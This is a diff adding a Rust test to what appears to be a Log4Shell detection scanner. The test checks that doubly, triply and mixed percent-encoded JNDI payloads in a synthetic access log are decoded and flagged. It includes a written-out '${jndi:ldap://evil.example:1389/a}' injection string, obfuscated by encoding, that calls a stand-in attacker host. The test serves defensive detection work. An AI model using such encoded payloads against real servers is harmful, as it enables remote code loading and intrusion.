@@ -286,6 +286,36 @@ fn payloads_at_random_offsets_across_buffer_boundaries() {
     assert_eq!(lines_of(&scan_one(&p).evidence), want);
 }
 
+/// Percent-encodes every byte of `s`.
+fn encode_all(s: &str) -> String {
+    s.bytes().map(|b| format!("%{b:02X}")).collect()
+}
+
+#[test]
+fn multiple_url_encoding_with_every_character_encoded() {
+    // Level 2 and 3 encodings in which the `%` and the hex digits are encoded too; the
+    // plain `%2524` forms are covered by the decoder tests.
+    let once = encode_all(PAYLOAD);
+    let twice = encode_all(&once);
+    let thrice = encode_all(&twice);
+    let mixed = format!("%25%32%34%25%37%42jndi:ldap://evil.example:1389/a%7D");
+    let dir = tempfile::tempdir().unwrap();
+    let mut text = String::from(
+        "10.0.0.9 - - [11/Dec/2021:10:00:00 +0100] \"GET /?q=%25%25%25 HTTP/1.1\" 404 0\n",
+    );
+    for p in [&once, &twice, &thrice, &mixed] {
+        text.push_str(&format!(
+            "10.0.0.9 - - [11/Dec/2021:10:00:00 +0100] \"GET /?q={p} HTTP/1.1\" 404 0\n"
+        ));
+    }
+    let p = write(dir.path(), "access.log", text.as_bytes());
+    let s = scan_one(&p);
+    assert_eq!(lines_of(&s.evidence), vec![2, 3, 4, 5], "{:?}", s.evidence);
+    for e in &s.evidence {
+        assert_eq!(e.payload.as_deref(), Some(PAYLOAD), "{e:?}");
+    }
+}
+
 #[test]
 fn templates_configs_and_normal_jndi_talk_are_not_findings() {
     let dir = tempfile::tempdir().unwrap();
